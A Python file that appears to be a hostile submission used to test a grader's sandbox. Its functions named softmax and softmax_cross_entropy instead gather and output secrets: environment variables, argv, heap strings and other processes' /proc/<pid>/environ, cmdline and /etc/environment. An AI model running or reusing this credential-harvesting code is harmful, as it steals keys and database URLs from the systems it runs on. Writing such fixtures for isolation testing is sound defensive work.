"""Secret theft: environment variables, argv, and /proc/<pid>/environ of the grader.

Looks everywhere a secret key or database URL could be: ``os.environ``, ``sys.argv``,
``sys.orig_argv``, strings in the interpreter's heap (``gc``), ``/proc/self/environ``,
``/proc/1/environ`` and the grader's and fork server's ``/proc/<pid>/environ`` and
``cmdline``. Everything found is printed and returned as byte values; then it opens the
grader's environ file without catching the error.
"""

import gc
import os
import sys

PARAMS: dict = {}  # filled in by the test

NEEDLES = ("LOSSGRADER", "SECRET", "postgresql://", "DATABASE", "TOKEN", "sk-", "tok-")


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(4096).decode("latin-1")
    except Exception as exc:
        return f"{path}: {type(exc).__name__}"


def _loot():
    found = [f"{k}={v}" for k, v in os.environ.items()]
    found += list(sys.argv) + list(getattr(sys, "orig_argv", []))
    found += [v for k, v in os.environ.items() if any(n in k for n in NEEDLES)]
    heap = []
    for obj in gc.get_objects():
        if obj is found or obj is heap:
            continue
        for item in list(obj) if type(obj) in (list, tuple) else list(obj.values()) if type(obj) is dict else ():
            if type(item) is str and any(n in item for n in NEEDLES) and len(item) < 300:
                heap.append(item)
    found += heap
    pids = ["self", 1, PARAMS["grader_pid"], PARAMS["zygote_pid"]]
    for pid in pids:
        found += [_read(f"/proc/{pid}/environ"), _read(f"/proc/{pid}/cmdline")]
    found.append(_read("/etc/environment"))
    return " | ".join(found)


def softmax(a):
    print("LOOT", _loot())
    with open(f"/proc/{PARAMS['grader_pid']}/environ", "rb") as f:
        return [float(b) for b in f.read()]


def softmax_cross_entropy(a, t):
    loot = _loot()
    return [float(b) for b in loot.encode()[:4000]]
